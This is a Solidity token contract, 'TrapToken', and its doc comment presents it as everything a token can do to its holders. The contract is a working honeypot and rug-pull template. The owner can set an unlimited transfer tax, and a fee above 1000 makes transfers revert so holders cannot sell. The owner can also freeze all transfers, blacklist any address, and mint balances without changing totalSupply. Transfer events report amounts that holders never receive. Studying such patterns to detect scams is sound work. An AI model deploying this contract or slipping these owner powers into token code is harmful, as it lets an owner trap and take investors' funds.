// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Everything that a token can do to its holders.
contract TrapToken {
    string public name = "Trap";
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    address owner;
    mapping(address => bool) barred;
    uint256 fee;
    bool stopped;
    address treasury;

    event Transfer(address indexed from, address indexed to, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    constructor() {
        owner = msg.sender;
    }

    function move(address from, address to, uint256 value) internal {
        require(!barred[from], "barred");
        require(!stopped, "stopped");
        require(balanceOf[from] >= value, "too little");
        balanceOf[from] -= value;
        uint256 taken = (value * fee) / 1000;
        balanceOf[to] += value - taken;
        balanceOf[treasury] += taken;
        emit Transfer(from, to, value);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function setTax(uint256 to) external onlyOwner {
        fee = to;
    }

    function halt(bool to) external onlyOwner {
        stopped = to;
    }

    function bar(address account, bool to) external onlyOwner {
        barred[account] = to;
    }

    function reward(address account, uint256 value) external onlyOwner {
        balanceOf[account] += value;
    }
}
